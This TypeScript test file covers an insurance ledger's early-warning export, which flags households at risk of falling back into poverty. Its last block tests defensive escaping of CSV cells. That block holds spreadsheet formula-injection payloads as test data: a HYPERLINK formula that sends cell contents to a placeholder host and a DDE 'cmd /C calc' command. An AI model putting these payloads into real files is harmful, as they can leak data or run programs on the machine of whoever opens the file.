import { Workbook } from 'exceljs';
import { Ledger } from '../../src/ledger/ledger.service';
import { EarlyWarningExport, type EarlyWarningRow } from '../../src/operations/early-warning/early-warning-export';
import { earlyWarningCsv, earlyWarningHeadings, earlyWarningXlsx } from '../../src/operations/early-warning/early-warning-file';
import { errorReportCsv } from '../../src/operations/import-report';
import { OperationsJournal } from '../../src/operations/operations-journal';
import { spreadsheetText } from '../../src/operations/tabular/spreadsheet-text';
import { loadSeedPacks } from '../../src/policy-packs/load-pack';
import { InMemoryEventStore } from '../support/in-memory-event-store';
import { InMemoryPersonalDataStore } from '../support/in-memory-personal-data-store';

/**
 * Early-warning export (issue 15 item 4). Fumeng 低保边缘 (examples/fumeng.json, fm-bianyuan): two
 * inpatient stays of 30000 leave 4320.00 and 1310.40 out of pocket; 5630.40 > 5000 raises 因病返贫
 * (二(三)1) on the second claim.
 */
const JULY = { region: 'fumeng', from: '2023-07-01', to: '2023-07-31' } as const;
const claim = (claimId: string, admissionDate: string, dischargeDate: string) =>
  ({ claimId, personId: 'fm-bianyuan', kind: 'INPATIENT', admissionDate, dischargeDate, hospitalLevel: 'SECONDARY', location: 'IN_COUNTY', costs: { total: '30000.00' } }) as const;

describe('early-warning export', () => {
  const store = new InMemoryEventStore();
  const personalData = new InMemoryPersonalDataStore();
  const journal = OperationsJournal.open(':memory:');
  const exporter = new EarlyWarningExport({ store, personalData, accessLog: journal, now: () => new Date('2023-08-01T09:00:00Z') });

  beforeAll(async () => {
    const ledger = await Ledger.open(store, { seedPacks: loadSeedPacks() });
    const at = (recordedAt: string) => ({ actor: 'test', recordedAt });
    await ledger.registerPerson({ personId: 'fm-bianyuan', region: 'fumeng', scheme: 'RESIDENT' }, at('2022-06-01T08:00:00Z'));
    await ledger.recognizeIdentity({ personId: 'fm-bianyuan', category: 'MARGINAL', validFrom: '2022-06-01', source: { department: 'CIVIL_AFFAIRS', document: '阜蒙县民政局 低保边缘家庭名册 2022-06' } }, at('2022-06-01T08:00:00Z'));
    await ledger.enrollPerson({ personId: 'fm-bianyuan', year: 2023, contribution: '380.00', enrolledOn: '2022-12-05' }, at('2022-12-05T08:00:00Z'));
    await ledger.submitClaim(claim('fm-bianyuan-1', '2023-05-01', '2023-05-10'), at('2023-05-11T08:00:00Z'));
    await ledger.submitClaim(claim('fm-bianyuan-2', '2023-06-20', '2023-07-01'), at('2023-07-02T08:00:00Z'));
    await ledger.registerPerson({ personId: 'hz-quiet', region: 'heze', scheme: 'RESIDENT' }, at('2023-01-01T08:00:00Z'));
    await personalData.put('fm-bianyuan', { name: '测试 边缘', nationalId: '211121197001010019' });
  });
  afterAll(async () => {
    journal.close();
    await store.close();
  });

  it('opens the XLSX and finds the alert with its burden by kind, person ids only for a role without access', async () => {
    const rows = await exporter.rows({ ...JULY, withPersonalData: false, actor: 'token:t1#inspector', principal: 'token:t1', format: 'xlsx' });
    const workbook = new Workbook();
    await workbook.xlsx.load((await earlyWarningXlsx(rows, false)) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('预警名单')!;
    const headings = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(headings).toEqual(earlyWarningHeadings(false));
    expect(headings).not.toContain('身份证号');
    expect(sheet.rowCount).toBe(2);
    const cells = Object.fromEntries(headings.map((heading, index) => [heading, sheet.getRow(2).getCell(index + 1).value]));
    expect(cells).toMatchObject({
      变动: '预警',
      统筹区: 'fumeng',
      人员编号: 'fm-bianyuan',
      年度: 2023,
      预警规则: 'returning-to-poverty',
      预警线: 5000,
      累计负担: 5630.4,
      '住院个人负担(总费用)': 5630.4,
      '住院个人负担(政策范围内)': 5630.4,
      '门诊慢特病个人负担(总费用)': 0,
      '高值药品个人负担(总费用)': 0,
      '个人负担合计(总费用)': 5630.4,
    });
    expect(personalData.reads).toEqual([]);
  });

  it('adds name and 身份证号 for a role allowed to see them, in CSV too, and records every export', async () => {
    const rows = await exporter.rows({ ...JULY, withPersonalData: true, actor: 'token:t2#operator', principal: 'token:t2', format: 'csv' });
    const lines = earlyWarningCsv(rows, true).replace(/^\ufeff/, '').trim().split('\n');
    expect(lines[0].split(',').slice(3, 6)).toEqual(['人员编号', '姓名', '身份证号']);
    expect(lines[1]).toContain('fm-bianyuan,测试 边缘,211121197001010019,2023');
    expect(personalData.reads).toEqual(['fm-bianyuan']);
    expect(journal.exports().map((record) => [record.actor, record.withPersonalData, record.personIds, record.rows])).toEqual([
      ['token:t2#operator', true, ['fm-bianyuan'], 1],
      ['token:t1#inspector', false, ['fm-bianyuan'], 1],
    ]);
  });

  it('keeps to the region and the period', async () => {
    expect(await exporter.rows({ ...JULY, region: 'heze', withPersonalData: false, actor: 't', principal: 't', format: 'csv' })).toEqual([]);
    expect(await exporter.rows({ ...JULY, from: '2023-08-01', to: '2023-08-31', withPersonalData: false, actor: 't', principal: 't', format: 'csv' })).toEqual([]);
  });

  it('lists a withdrawal: a retroactive 特困 recognition reassesses the year and the burden drops below the line', async () => {
    const ledger = await Ledger.open(store);
    await ledger.recognizeIdentity(
      { personId: 'fm-bianyuan', category: 'DESTITUTE', validFrom: '2023-01-01', source: { department: 'CIVIL_AFFAIRS', document: '阜蒙县民政局 特困人员名册 2023-08' } },
      { actor: 'test', recordedAt: '2023-08-10T08:00:00Z' },
    );
    const rows = await exporter.rows({ ...JULY, from: '2023-08-01', to: '2023-08-31', withPersonalData: false, actor: 't', principal: 't', format: 'csv' });
    expect(rows.map((row) => [row.change, row.personId, row.rule])).toEqual([['withdrawn', 'fm-bianyuan', 'returning-to-poverty']]);
    const [withdrawn] = rows;
    expect(Number(withdrawn.burden)).toBeLessThan(5000);
    // The breakdown is the year as it stood at the withdrawal: after the reassessment, not before.
    expect(withdrawn.sum.total).toBe(withdrawn.byKind.INPATIENT.total);
    expect(withdrawn.sum.total).toBe(withdrawn.burden);
    expect(Number(withdrawn.sum.total)).toBeLessThan(5630.4);
    expect(earlyWarningCsv(rows, false)).toContain('解除,2023-08-10');
  });
});

describe('CSV cells a spreadsheet would run as formulas', () => {
  it.each([
    ['=HYPERLINK("http://x.invalid/?"&E2,"详情")', `'=HYPERLINK("http://x.invalid/?"&E2,"详情")`],
    ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['-2+3', `'-2+3`],
    ['\t=1', `'\t=1`],
    ['-12.50', '-12.50'],
    ['测试 边缘', '测试 边缘'],
  ])('writes %j as %j', (text, written) => {
    expect(spreadsheetText(text)).toBe(written);
  });

  it('given a name typed as a formula, then the export writes it as text, and the error report a heading so typed', () => {
    const row = { change: 'raised', recordedAt: '2023-07-02T08:00:00Z', region: 'fumeng', personId: 'p-1', name: '=HYPERLINK("http://x.invalid/?"&F2)', nationalId: null, year: 2023, rule: 'r', ruleName: 'n', threshold: '5000.00', burden: '5630.40', byKind: { INPATIENT: { total: '5630.40', policyScope: '5630.40' }, OUTPATIENT_CHRONIC: { total: '0.00', policyScope: '0.00' }, HIGH_VALUE_DRUG: { total: '0.00', policyScope: '0.00' } }, sum: { total: '5630.40', policyScope: '5630.40' } } as unknown as EarlyWarningRow;
    expect(earlyWarningCsv([row], true)).toContain(`p-1,"'=HYPERLINK(""http://x.invalid/?""&F2)",`);
    expect(errorReportCsv([{ row: 2, column: '=1+1', reason: 'must be an amount' }])).toContain(`2,'=1+1,must be an amount`);
  });
});
